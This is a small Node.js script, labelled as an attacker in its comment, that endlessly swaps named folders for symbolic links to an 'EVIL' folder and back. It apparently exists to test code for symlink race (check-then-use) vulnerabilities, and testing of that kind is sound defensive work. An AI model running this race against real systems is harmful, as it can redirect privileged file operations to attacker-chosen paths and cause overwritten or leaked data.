// An attacker: swaps folders for symbolic links to another folder and back, without pause, until it is killed.
//     node swapper.mjs EVIL FOLDER...
import { renameSync, symlinkSync, unlinkSync } from 'node:fs';

const [evil, ...folders] = process.argv.slice(2);

/** Runs a step that fails where the folder is not there yet, or where somebody else was faster. */
function attempt(step) {
  try {
    step();
    return true;
  } catch {
    return false;
  }
}

for (;;) {
  for (const folder of folders) {
    const away = `${folder}.away`;
    if (!attempt(() => renameSync(folder, away))) continue;
    if (attempt(() => symlinkSync(evil, folder))) attempt(() => unlinkSync(folder));
    attempt(() => renameSync(away, folder));
  }
}
